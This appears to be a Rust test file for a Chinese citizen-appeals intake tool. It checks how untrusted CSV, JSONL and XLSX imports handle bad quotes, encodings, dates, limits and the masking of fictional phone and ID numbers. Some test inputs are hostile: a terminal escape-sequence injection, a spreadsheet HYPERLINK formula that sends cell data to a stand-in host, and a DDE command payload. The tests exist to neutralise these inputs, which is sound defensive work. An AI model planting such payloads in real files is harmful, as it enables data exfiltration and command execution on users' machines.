//! Import and export of untrusted files through the real binary: the
//! findings of issue 5 (stray quotes, broken encodings, history text,
//! future dates and JSON types, CRLF line numbers, closed pipes, personal
//! data in errors, formula cells), and landline phones in imported rows.
//! All people and numbers are fictional.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Output, Stdio};

use crate::support::cli;

use cli::*;
use jiedai::domain::{EventBody, Satisfaction, Step};
use jiedai::storage::Store;

const HEADER: &str = "日期,姓名,电话,身份证号,类别,诉求内容,接待代表,办理状态";

/// A valid appeal row of the HEADER columns.
fn row(i: usize) -> String {
    format!(
        "2026-05-{:02} 09:{:02},市民{i},1390000{:04},,住房,楼道灯不亮 {i},张山,已受理",
        1 + i % 28,
        i % 60,
        i
    )
}

#[test]
fn a_stray_quote_that_swallows_rows_refuses_the_whole_file() {
    let dir = station(true);
    let mut lines = vec![HEADER.to_string()]; // line 1
    for i in 2..=10 {
        lines.push(row(i));
    }
    // Line 4: the content field opens a quote that line 7 closes.
    lines[3] = "2026-05-04 09:00,市民甲,13900000004,,住房,\"楼道灯不亮".into();
    lines[6] = "2026-05-07 09:00,市民乙,13900000007,,住房,水管漏水\",张山,已受理".into();
    let f = write(dir.path(), "stray.csv", lines.join("\n").as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    let stderr = text(&out.stderr);
    assert!(stderr.contains("第 4–7 行"), "{stderr}");
    // Nothing of the swallowed rows is echoed, and nothing was written.
    assert!(!stderr.contains("1390000"), "{stderr}");
    assert_eq!(appeal_count(dir.path()), 0);
    let out = expect(dir.path(), &["--lang", "en", "import", "appeals", path(&f)], 2);
    assert!(text(&out.stderr).contains("lines 4–7"), "{}", text(&out.stderr));

    // A quote that never closes, in a two-column file.
    let f = write(
        dir.path(),
        "open.csv",
        "日期,诉求内容\n2026-05-01,路灯\n2026-05-02,\"水管\n漏水\n".as_bytes(),
    );
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    assert!(text(&out.stderr).contains("第 3–4 行"), "{}", text(&out.stderr));
    assert_eq!(appeal_count(dir.path()), 0);

    // Multi-line content that swallows no rows is still content.
    let ok = format!(
        "{HEADER}\n2026-05-04 09:00,市民甲,,,住房,\"第一段，说明情况\n2026年5月起，楼道灯一直不亮\n第三段\",张山,已受理\n{}\n",
        row(5)
    );
    let f = write(dir.path(), "multi.csv", ok.as_bytes());
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    assert_eq!(appeal_count(dir.path()), 2);
}

#[test]
fn almost_utf8_is_refused_with_its_line_not_read_as_gb18030() {
    let dir = station(true);
    let mut bytes = format!("{HEADER}\n{}\n", row(2)).into_bytes();
    // Line 3: one broken sequence in otherwise UTF-8 Chinese text.
    bytes.extend_from_slice("2026-05-03 09:00,市民丙,,,住房,中文".as_bytes());
    bytes.extend_from_slice(b"\xE4\xB8");
    bytes.extend_from_slice("内容,张山,已受理\n".as_bytes());
    bytes.extend_from_slice(format!("{}\n", row(4)).as_bytes());
    let f = write(dir.path(), "broken.csv", &bytes);
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    let stderr = text(&out.stderr);
    assert!(stderr.contains("第 3 行") && stderr.contains("UTF-8"), "{stderr}");
    let out = expect(dir.path(), &["--lang", "en", "import", "appeals", path(&f)], 2);
    assert!(text(&out.stderr).contains("line 3"), "{}", text(&out.stderr));
    assert_eq!(appeal_count(dir.path()), 0);

    // Neither UTF-8 nor GB18030: the line of the first bad byte.
    let bad = [HEADER.as_bytes(), b"\n2026-05-02,\x80\xFF,,,,x,,\n"].concat();
    let f = write(dir.path(), "bad.csv", &bad);
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    assert!(text(&out.stderr).contains("第 2 行"), "{}", text(&out.stderr));

    // GB18030 as Excel saves it still imports.
    let gb_text = format!("{HEADER}\r\n{}\r\n", row(2));
    let (gb, _, _) = encoding_rs::GB18030.encode(&gb_text);
    let f = write(dir.path(), "gb.csv", &gb);
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    assert!(export(dir.path(), "jsonl").contains("楼道灯不亮 2"));
}

/// One exported appeal with a reply in its history, as a JSON line.
fn exported_with_reply() -> String {
    let dir = station(true);
    let f = write(
        dir.path(),
        "one.csv",
        "日期,诉求内容,办理状态,办理方式,答复\n2026-03-10,路灯不亮,已答复,当场答复,已联系维修\n".as_bytes(),
    );
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    let line = export(dir.path(), "jsonl");
    assert!(line.contains("已联系维修"), "{line}");
    line
}

#[test]
fn history_text_is_held_to_the_rules_of_every_other_text() {
    let line = exported_with_reply();
    // The reply column agrees with the history: leave it out of the row.
    let mut value: serde_json::Value = serde_json::from_str(&line).expect("json");
    value.as_object_mut().expect("object").remove("reply");
    let base = value.to_string();
    let cases = [
        ("已联系维修\\u001b]0;owned\\u0007\\u001b[2J", "控制字符"),
        ("已联系维修\\u0000", "控制字符"),
        (&"长".repeat(40_000)[..], "4000"),
    ];
    for (reply, want) in cases {
        let dir = station(true);
        let tampered = base.replace("已联系维修", reply);
        let f = write(dir.path(), "h.jsonl", tampered.as_bytes());
        let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains("第 1 行：历史：") && stderr.contains(want),
            "{want}: {stderr}"
        );
        assert!(!stderr.contains('\u{1b}'), "{stderr}");
        assert_eq!(appeal_count(dir.path()), 0);
    }
    // The untampered line imports.
    let dir = station(true);
    let f = write(dir.path(), "h.jsonl", line.as_bytes());
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
}

#[test]
fn an_xlsx_cell_that_cannot_be_written_names_its_appeal() {
    let dir = station(true);
    let f = write(
        dir.path(),
        "one.csv",
        "日期,诉求内容,办理状态,承办单位,办理期限\n2026-03-10,路灯不亮,办理中,县住建局,2026-04-10\n"
            .as_bytes(),
    );
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    let code = {
        let mut store = Store::open(dir.path()).expect("store");
        let mut codes = Vec::new();
        store
            .for_each_appeal(|a| {
                codes.push(a.code.clone());
                Ok(())
            })
            .expect("scan");
        let code = codes.remove(0);
        // Nine rounds of 4000-character replies, each within the caps:
        // the history cell is longer than a cell of xlsx may be.
        let mut changes = Vec::new();
        for round in 0..9 {
            let reply = format!("第{round}轮答复：{}", "办".repeat(3990));
            for step in [
                Step::Reply {
                    reply,
                    document: None,
                    class: None,
                },
                Step::Rate {
                    satisfaction: Satisfaction::Unsatisfied,
                },
            ] {
                changes.push(EventBody::AppealStepped {
                    code: code.clone(),
                    step,
                    note: String::new(),
                });
            }
        }
        store.commit("s1", changes).expect("commit");
        code
    };
    let out_file = dir.path().join("a.xlsx");
    let out = jiedai(
        dir.path(),
        &["export", "appeals", "--format", "xlsx", "--out", path(&out_file)],
    );
    assert_ne!(out.status.code(), Some(0));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(code.as_str()) && stderr.contains("history"),
        "{stderr}"
    );
    assert!(!out_file.exists());
}

#[test]
fn future_dates_and_non_string_json_are_refused() {
    let dir = station(true);
    let jsonl = [
        r#"{"date":"2099-12-31","content":"来自未来"}"#,
        r#"{"date":"2026-05-10","content":{"text":"对象"}}"#,
        r#"{"date":"2026-05-10","content":42}"#,
        r#"{"date":"2026-05-10","content":"正常","name":true}"#,
        r#"{"date":"2026-05-10","content":"正常","group_size":3,"deputy":["张山","马丽"]}"#,
    ]
    .join("\n");
    let f = write(dir.path(), "a.jsonl", jsonl.as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    let stderr = text(&out.stderr);
    for want in [
        "第 1 行：日期：2099-12-31 晚于今天",
        "第 2 行：诉求内容：应为文本",
        "第 3 行：诉求内容：应为文本",
        "第 4 行：姓名：应为文本",
    ] {
        assert!(stderr.contains(want), "missing {want:?} in\n{stderr}");
    }
    assert_eq!(appeal_count(dir.path()), 1);
    let out = expect(dir.path(), &["--lang", "en", "import", "appeals", path(&f)], 3);
    assert!(
        text(&out.stderr).contains("line 1: Date: 2099-12-31 is after today"),
        "{}",
        text(&out.stderr)
    );
    // A history step dated in the future.
    let line = exported_with_reply();
    let mut value: serde_json::Value = serde_json::from_str(&line).expect("json");
    let last = value["history"]
        .as_array_mut()
        .and_then(|h| h.last_mut())
        .expect("a step");
    last["at"] = "2099-12-31T10:00:00+08:00".into();
    let f = write(dir.path(), "h.jsonl", value.to_string().as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    assert!(
        text(&out.stderr).contains("第 1 行：历史：第 2 步的日期 2099-12-31 晚于今天"),
        "{}",
        text(&out.stderr)
    );
    // A CSV row dated in the future too.
    let f = write(
        dir.path(),
        "a.csv",
        "日期,诉求内容\n2099-12-31 08:00,来自未来\n".as_bytes(),
    );
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    assert!(
        text(&out.stderr).contains("第 2 行：日期："),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn crlf_files_report_physical_lines() {
    let dir = station(true);
    let lines = [
        HEADER.to_string(),                                                       // 1
        "2026-05-02 09:00,市民甲,,,住房,\"第一段\r\n第二段\",张山,已受理".into(), // 2-3
        "2026-05-04 09:00,市民乙,1390000120,,住房,内容,张山,已受理".into(),       // 4: 10 digits
        row(5),                                                                   // 5
        "2026-05-06 09:00,市民丙,,,天气,内容,张山,已受理".into(),                 // 6: category
        row(7),                                                                   // 7
    ];
    let f = write(dir.path(), "crlf.csv", (lines.join("\r\n") + "\r\n").as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    let stderr = text(&out.stderr);
    assert!(stderr.contains("第 4 行：电话"), "{stderr}");
    assert!(stderr.contains("第 6 行：类别"), "{stderr}");
    assert_eq!(appeal_count(dir.path()), 3);
    // --from-line counts physical lines too.
    let other = station(true);
    let out = expect(
        other.path(),
        &["import", "appeals", path(&f), "--from-line", "6"],
        3,
    );
    assert!(
        text(&out.stderr).contains("第 6 行：类别"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(appeal_count(other.path()), 1);
    assert!(export(other.path(), "jsonl").contains("楼道灯不亮 7"));
}

/// Runs with stdout piped, reads `keep` lines, then closes the pipe and
/// waits: the program must neither panic nor fail.
fn closed_stdout(dir: &Path, args: &[&str], keep: usize) -> Output {
    let mut child = bin()
        .arg("--data")
        .arg(dir)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    {
        let stdout = child.stdout.take().expect("stdout");
        let mut reader = BufReader::new(stdout);
        for _ in 0..keep {
            let mut line = String::new();
            reader.read_line(&mut line).expect("read");
        }
    }
    child.wait_with_output().expect("wait")
}

#[test]
fn a_reader_that_stops_early_is_not_a_panic() {
    let dir = station(true);
    let out = closed_stdout(
        dir.path(),
        &["import", "appeals", path(&sample("appeals.csv"))],
        0,
    );
    assert!(!text(&out.stderr).contains("panicked"), "{}", text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(appeal_count(dir.path()), 320);
    for args in [
        &["find", "", "--json"][..],
        &["find", ""][..],
        &["export", "appeals", "--format", "jsonl"][..],
        &["export", "appeals", "--format", "csv"][..],
    ] {
        let out = closed_stdout(dir.path(), args, 1);
        assert!(
            !text(&out.stderr).contains("panicked"),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", text(&out.stderr));
    }
    // Standard error closed as well.
    let other = station(true);
    let out = bin()
        .arg("--data")
        .arg(other.path())
        .args(["import", "appeals", path(&sample("appeals.csv"))])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            drop(c.stderr.take());
            c.wait()
        })
        .expect("run");
    assert_eq!(out.code(), Some(0));
    assert_eq!(appeal_count(other.path()), 320);
}

#[test]
fn errors_mask_personal_data() {
    let dir = station(true);
    // No header row: the first row is data.
    let csv = "2026-05-10,张小明,13812345678,330999196511290893,住房,楼道灯不亮,张山,已受理\n";
    let f = write(dir.path(), "noheader.csv", csv.as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    let stderr = text(&out.stderr);
    for leaked in ["13812345678", "330999196511290893", "张小明", "楼道灯不亮"] {
        assert!(!stderr.contains(leaked), "{leaked} in {stderr}");
    }
    assert!(stderr.contains("138****5678"), "{stderr}");
    assert!(stderr.contains("330999********0893"), "{stderr}");
    assert!(stderr.contains("“张*”"), "{stderr}");

    // Shifted cells: a phone in the category, a visitor in the deputy
    // column, an ID number in the date and a phone in the group size.
    let csv = [
        "日期,姓名,电话,类别,诉求内容,接待代表,人数",
        "2026-05-10,,,13812345678,内容,,",
        "2026-05-10,,,,内容,王小红,",
        "330999196511290893,,,,内容,,",
        "2026-05-10,,,,内容,,13812345678",
    ]
    .join("\n");
    let f = write(dir.path(), "shifted.csv", csv.as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    let stderr = text(&out.stderr);
    for leaked in ["13812345678", "330999196511290893", "王小红"] {
        assert!(!stderr.contains(leaked), "{leaked} in {stderr}");
    }
    for want in [
        "第 2 行：类别：未知的值“138****5678”",
        "第 3 行：接待代表：代表名册中没有“王*”",
        "第 4 行：日期：无法识别“330999********0893”",
        "第 5 行：人数：应为 1-999 的整数",
    ] {
        assert!(stderr.contains(want), "missing {want:?} in\n{stderr}");
    }
    // A deputy roster with a phone in the level column.
    let f = write(
        dir.path(),
        "deputies.csv",
        "编号,姓名,层级\nD900,张三,13812345678\n".as_bytes(),
    );
    let out = expect(dir.path(), &["import", "deputies", path(&f)], 3);
    let stderr = text(&out.stderr);
    assert!(
        !stderr.contains("13812345678") && stderr.contains("第 2 行：层级：未知的层级“138****5678”"),
        "{stderr}"
    );
    // Unknown JSON keys that are data.
    let f = write(
        dir.path(),
        "keys.jsonl",
        r#"{"date":"2026-05-10","content":"x","13812345678":"电话"}"#.as_bytes(),
    );
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    let stderr = text(&out.stderr);
    assert!(
        !stderr.contains("13812345678") && stderr.contains("138****5678"),
        "{stderr}"
    );
}

#[test]
fn formula_cells_are_neutralised_in_csv_and_come_back_on_import() {
    let dir = station(true);
    let contents = [
        "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"点此\")",
        "+cmd",
        "-cmd",
        "@x",
        "=cmd|' /C calc'!A0",
    ];
    let jsonl: Vec<String> = contents
        .iter()
        .map(|c| {
            serde_json::json!({
                "date": "2026-05-10",
                "content": c,
                "name": "=张三",
                "address": "-1号楼",
                "phone": "13812345678",
                "group_size": "2",
            })
            .to_string()
        })
        .collect();
    let f = write(dir.path(), "f.jsonl", jsonl.join("\n").as_bytes());
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    let original = export(dir.path(), "jsonl");

    let csv_file = dir.path().join("out.csv");
    expect(
        dir.path(),
        &["export", "appeals", "--format", "csv", "--out", path(&csv_file)],
        0,
    );
    let raw = std::fs::read(&csv_file).expect("csv");
    let mut reader = csv::Reader::from_reader(&raw[3..]);
    let headers = reader.headers().expect("header").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect("column");
    let mut seen = 0;
    for record in reader.records() {
        let record = record.expect("record");
        for (i, cell) in record.iter().enumerate() {
            if headers[i] == *"历史" {
                continue;
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{} = {cell:?}",
                &headers[i]
            );
        }
        assert!(record[column("诉求内容")].starts_with('\''));
        assert_eq!(&record[column("姓名")], "'=张三");
        assert_eq!(&record[column("住址")], "'-1号楼");
        assert_eq!(&record[column("电话")], "13812345678");
        assert_eq!(&record[column("人数")], "2");
        seen += 1;
    }
    assert_eq!(seen, contents.len());
    // The stdout CSV is the same.
    assert_eq!(export(dir.path(), "csv").as_bytes(), &raw[3..]);

    let copy = station(true);
    expect(copy.path(), &["import", "appeals", path(&csv_file)], 0);
    let back = export(copy.path(), "jsonl");
    assert_eq!(back, original);
    for c in contents {
        assert!(back.contains(&serde_json::to_string(c).expect("json")), "{c}");
    }
}

#[test]
fn landlines_import_normalised_and_bad_ones_name_their_row() {
    let dir = station(true);
    let forms = [
        ("0571-88001234", "0571-88001234"),
        ("(0571) 8800 1234", "0571-88001234"),
        ("057188001234", "0571-88001234"),
        ("010 6600 1234", "010-66001234"),
        ("+86 10 6600 1234", "010-66001234"),
        ("８８００１２３４", "88001234"),
        ("0571—88001234转123", "0571-88001234-123"),
        ("021-66001234 ext 45", "021-66001234-45"),
        ("+86 138 0000 1234", "13800001234"),
    ];
    let mut lines = vec![HEADER.to_string()];
    for (i, (phone, _)) in forms.iter().enumerate() {
        lines.push(format!(
            "2026-05-{:02} 09:00,市民{i},{phone},,住房,座机来访 {i},张山,已受理",
            i + 1
        ));
    }
    let bad_line = lines.len() + 1;
    lines.push("2026-05-20 09:00,市民乙,0571-880012,,住房,座机位数不对,张山,已受理".into());
    lines.push("2026-05-21 09:00,市民丙,400-820-1234,,住房,服务号码,张山,已受理".into());
    let f = write(dir.path(), "landlines.csv", lines.join("\n").as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 3);
    let stderr = text(&out.stderr);
    for want in [
        format!("第 {bad_line} 行：电话：座机号（不含区号和分机号）应为 7 或 8 位，实际 6 位"),
        format!("第 {} 行：电话：400/800 服务号码不能作为来访人电话", bad_line + 1),
    ] {
        assert!(stderr.contains(&want), "missing {want:?} in\n{stderr}");
    }
    assert!(
        !stderr.contains("880012,") && !stderr.contains("8201234"),
        "{stderr}"
    );
    assert_eq!(appeal_count(dir.path()), forms.len());

    // Stored normalised: whole in the export, masked in `find --json`.
    let mut stored = std::collections::HashMap::new();
    for line in export(dir.path(), "jsonl").lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("json");
        stored.insert(
            v["content"].as_str().expect("content").to_string(),
            v["phone"].as_str().expect("phone").to_string(),
        );
    }
    for (i, (phone, want)) in forms.iter().enumerate() {
        assert_eq!(
            stored.get(&format!("座机来访 {i}")).map(String::as_str),
            Some(*want),
            "{phone}"
        );
    }
    let found = text(&expect(dir.path(), &["find", "座机来访", "--json"], 0).stdout);
    let masked: Vec<String> = found
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("json");
            v["phone"].as_str().expect("phone").to_string()
        })
        .collect();
    for want in [
        "0571-****1234",
        "010-****1234",
        "****1234",
        "0571-****1234-123",
        "021-****1234-45",
        "138****1234",
    ] {
        assert!(masked.iter().any(|m| m == want), "{want} not in {masked:?}");
    }
    assert!(
        !found.contains("88001234") && !found.contains("66001234"),
        "{found}"
    );

    // The same refusal in English.
    let other = station(true);
    let out = expect(other.path(), &["--lang", "en", "import", "appeals", path(&f)], 3);
    let want = format!(
        "line {bad_line}: Phone: a landline number must have 7 or 8 digits besides area code and extension, got 6"
    );
    assert!(text(&out.stderr).contains(&want), "{}", text(&out.stderr));
}

#[test]
fn a_visitor_without_a_phone_has_none_in_find() {
    let dir = station(true);
    let f = write(
        dir.path(),
        "nophone.csv",
        format!("{HEADER}\n2026-05-02 09:00,市民甲,,,住房,没有电话,张山,已受理\n").as_bytes(),
    );
    expect(dir.path(), &["import", "appeals", path(&f)], 0);
    let found = text(&expect(dir.path(), &["find", "没有电话", "--json"], 0).stdout);
    let v: serde_json::Value = serde_json::from_str(found.trim()).expect("json");
    assert_eq!(v["phone"], "", "{found}");
}

#[test]
fn a_deputy_roster_takes_landlines() {
    let dir = station(false);
    let f = write(
        dir.path(),
        "roster.csv",
        "编号,姓名,层级,电话\nD901,王五,county,(0571)88001234转8\nD902,赵六,county,010-66001234\nD903,钱七,county,0571-1234\n"
            .as_bytes(),
    );
    let out = expect(dir.path(), &["import", "deputies", path(&f)], 3);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("第 4 行：电话：座机号（不含区号和分机号）应为 7 或 8 位，实际 4 位"),
        "{stderr}"
    );
    let roster = Store::open(dir.path())
        .expect("store")
        .deputies()
        .expect("deputies");
    let phones: Vec<(&str, &str)> = roster.iter().map(|d| (d.id.as_str(), d.phone.as_str())).collect();
    assert_eq!(phones, [("D901", "0571-88001234-8"), ("D902", "010-66001234")]);
}

/// UTF-16 as Excel saves "Unicode text" (FF FE, tab-separated) and as
/// some tools write it (FE FF, commas) is read; Windows line ends keep
/// their physical line numbers, and a row with a problem is named by its
/// line.
#[test]
fn utf16_from_excel_is_read() {
    let dir = station(true);
    let text = "日期\t姓名\t诉求内容\r\n2026-03-10 09:30\t林晓梅\t柳岸路北段路灯不亮\r\n2026-03-10 10:00\t\t小区门口停车难\r\n2026-03-10 10:30\t陈\t\r\n";
    let le: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let file = write(dir.path(), "unicode.txt", &le);
    let out = jiedai(dir.path(), &["import", "appeals", path(&file)]);
    assert_eq!(out.status.code(), Some(3), "{}", printed(&out));
    assert!(text_of(&out.stderr).contains("第 4 行"), "{}", printed(&out));
    assert_eq!(appeal_count(dir.path()), 2);
    let found = expect(dir.path(), &["find", "路灯不亮"], 0);
    assert!(text_of(&found.stdout).contains("林晓梅"), "{}", printed(&found));
    let csv = "日期,诉求内容\n2026-03-11,公交站台缺少遮雨棚\n";
    let be: Vec<u8> = [0xFE, 0xFF]
        .into_iter()
        .chain(csv.encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    let file = write(dir.path(), "be.csv", &be);
    expect(dir.path(), &["import", "appeals", path(&file)], 0);
    assert_eq!(appeal_count(dir.path()), 3);
}

fn text_of(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Rows have limits of their own, named with the row's line: an imported
/// appeal's history at most 1,000 steps, a row at most 1 MB; the other
/// rows are imported.
#[test]
fn rows_over_their_limits_are_refused_by_line() {
    let from = station(true);
    expect(
        from.path(),
        &["import", "appeals", path(&sample("appeals.csv"))],
        0,
    );
    let exported = text_of(&expect(from.path(), &["export", "appeals", "--format", "jsonl"], 0).stdout);
    let mut lines: Vec<String> = exported.lines().take(3).map(str::to_string).collect();
    let mut first: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    let step = first["history"][0].clone();
    first["history"] = serde_json::Value::Array(vec![step; 1001]);
    lines[0] = first.to_string();
    let mut long: serde_json::Value = serde_json::from_str(&lines[1]).unwrap();
    long["content"] = serde_json::Value::String("长".repeat(400_000));
    lines[1] = long.to_string();
    let dir = station(true);
    let file = write(dir.path(), "limits.jsonl", lines.join("\n").as_bytes());
    let out = jiedai(dir.path(), &["import", "appeals", path(&file)]);
    assert_eq!(out.status.code(), Some(3), "{}", printed(&out));
    let said = text_of(&out.stderr);
    assert!(
        said.contains("第 1 行") && said.contains("1001 步，超过上限 1000 步"),
        "{said}"
    );
    assert!(
        said.contains("第 2 行") && said.contains("超过一行 1024 KB 的上限"),
        "{said}"
    );
    assert_eq!(appeal_count(dir.path()), 1);
}

/// `rows` valid rows of the HEADER columns, one a line from line 2.
fn many_rows(rows: usize) -> Vec<String> {
    let mut lines = vec![HEADER.to_string()];
    lines.extend((0..rows).map(row));
    lines
}

#[test]
fn damage_far_down_a_large_file_changes_nothing_and_names_its_line() {
    let dir = station(true);
    // A stray quote on line 902 (long after the first chunk) that line 904 closes.
    let mut lines = many_rows(1000);
    lines[901] = "2026-05-04 09:00,市民甲,13900000004,,住房,\"楼道灯不亮".into();
    lines[903] = "2026-05-07 09:00,市民乙,13900000007,,住房,水管漏水\",张山,已受理".into();
    let f = write(dir.path(), "stray.csv", lines.join("\n").as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    let stderr = text(&out.stderr);
    assert!(stderr.contains("第 902–904 行"), "{stderr}");
    assert!(!text(&out.stdout).contains("已保存"), "{}", text(&out.stdout));
    assert_eq!(appeal_count(dir.path()), 0);

    // A broken UTF-8 sequence on line 951.
    let mut bytes = many_rows(1000).join("\n").into_bytes();
    let at = bytes
        .iter()
        .enumerate()
        .filter(|(_, b)| **b == b'\n')
        .nth(949)
        .map(|(i, _)| i + 1)
        .expect("line 951");
    bytes.insert(at, 0xE4);
    let f = write(dir.path(), "broken.csv", &bytes);
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 2);
    assert!(text(&out.stderr).contains("第 951 行"), "{}", text(&out.stderr));
    assert_eq!(appeal_count(dir.path()), 0);

    // The same rows, undamaged: saved in chunks, each said.
    let f = write(dir.path(), "good.csv", many_rows(1000).join("\r\n").as_bytes());
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 0);
    assert_eq!(
        text(&out.stdout).lines().collect::<Vec<_>>(),
        vec![
            "已保存 200 行",
            "已保存 400 行",
            "已保存 600 行",
            "已保存 800 行",
            "已保存 1000 行",
            "已导入 1000 行，拒绝 0 行。"
        ]
    );
    assert_eq!(appeal_count(dir.path()), 1000);
}

/// Each appeal's content, counted.
fn contents(dir: &Path) -> std::collections::BTreeMap<String, usize> {
    let mut counts = std::collections::BTreeMap::new();
    for line in export(dir, "jsonl").lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("json");
        *counts
            .entry(v["content"].as_str().expect("content").to_string())
            .or_insert(0) += 1;
    }
    counts
}

#[test]
fn an_import_killed_between_chunks_and_run_again_holds_each_appeal_once() {
    let dir = station(true);
    let rows = 1500;
    let f = write(dir.path(), "many.csv", many_rows(rows).join("\n").as_bytes());
    let mut child = bin()
        .arg("--data")
        .arg(dir.path())
        .args(["import", "appeals", path(&f)])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    {
        let mut first = String::new();
        BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut first)
            .expect("read");
        assert_eq!(first.trim(), "已保存 200 行");
        child.kill().expect("kill");
    }
    child.wait().expect("wait");
    let saved = appeal_count(dir.path());
    assert!((200..=rows).contains(&saved), "{saved}");

    // The whole file again: what was saved is skipped, the rest imported.
    let out = expect(dir.path(), &["import", "appeals", path(&f)], 0);
    let stdout = text(&out.stdout);
    let summary = if saved == rows {
        format!("已导入 0 行，跳过此前已导入的 {rows} 行，拒绝 0 行。")
    } else if saved == 0 {
        format!("已导入 {rows} 行，拒绝 0 行。")
    } else {
        format!(
            "已导入 {} 行，跳过此前已导入的 {saved} 行，拒绝 0 行。",
            rows - saved
        )
    };
    assert!(stdout.contains(&summary), "{stdout}");
    let counts = contents(dir.path());
    assert_eq!(counts.len(), rows);
    assert!(counts.values().all(|&n| n == 1), "an appeal was imported twice");
    expect(dir.path(), &["check"], 0);

    // Rows that are the same appeal twice are both kept, and both skipped
    // the next time.
    let other = station(true);
    let twice = format!("{HEADER}\n{}\n{}\n{}\n", row(1), row(1), row(2));
    let f = write(other.path(), "twice.csv", twice.as_bytes());
    expect(other.path(), &["import", "appeals", path(&f)], 0);
    let out = expect(other.path(), &["--lang", "en", "import", "appeals", path(&f)], 0);
    assert!(
        text(&out.stdout).contains("0 rows imported, 3 skipped (imported before), 0 rejected."),
        "{}",
        text(&out.stdout)
    );
    assert_eq!(appeal_count(other.path()), 3);
}
